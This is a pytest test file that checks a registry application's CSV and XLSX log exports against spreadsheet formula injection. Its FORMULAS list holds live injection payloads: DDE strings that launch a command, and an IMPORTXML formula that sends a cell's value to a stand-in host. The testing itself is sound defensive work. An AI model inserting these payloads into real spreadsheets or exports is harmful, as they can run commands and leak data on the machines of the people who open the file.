"""What a spreadsheet might run, in every text that gets into an export: it is text there, in CSV and in XLSX."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from desktop.domain.codes import CopyOutcome
from desktop.services.counter import Counter
from desktop.services.day_log import LogFormat, LogRequest
from desktop.services.rows import Actor

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '＝HYPERLINK("http://x","登记")',
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")',
    ";=1+1",
    '"=1+1',
)
RUNS = "=+-@＝＋－＠\t\r"


@pytest.fixture
def log(
    station: Counter, clerk: Actor, template: Any, register: Callable[..., Any], tmp_path: Path
) -> Callable[[LogFormat], Path]:
    """The day's log after every such text was a reason, an address, a remark, a printer, a matter."""
    for serial, formula in enumerate(FORMULAS, 1):
        done = register(serial, person={"hukou_address": formula}, residence={"remark": formula})
        copy = station.papers.prepare(clerk, f"copy {serial}", done.paper_id)
        station.papers.settle(clerk, copy.copy_id, CopyOutcome.SPOILED, formula)
        station.people.page(clerk, done.case.person_id, matter=formula)
    today = station.office.today()

    def export(kind: LogFormat) -> Path:
        path = tmp_path / f"log.{kind.value.lower()}"
        request = LogRequest(today, today, kind, path, whole_numbers=True)
        station.day_log.export(template.auditor, request, lambda *_: None, lambda: False)
        return path

    return export


def test_no_cell_of_a_csv_begins_as_a_formula(log: Callable[[LogFormat], Path]) -> None:
    rows = list(csv.reader(log(LogFormat.CSV).read_text("utf-8-sig").splitlines()))
    cells = [cell for row in rows for cell in row]
    for formula in FORMULAS:
        assert any(formula in cell for cell in cells), formula
    digits = [cell for cell in cells if cell.startswith("\t")]
    assert all(cell[1:].replace("*", "").isalnum() for cell in digits)  # a number kept whole, nothing else
    assert [cell for cell in cells if cell and cell[0] in RUNS and cell not in digits and cell != "-"] == []


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(log: Callable[[LogFormat], Path]) -> None:
    book = openpyxl.load_workbook(log(LogFormat.XLSX))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert any(FORMULAS[0] in str(cell.value) for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink is not None] == []
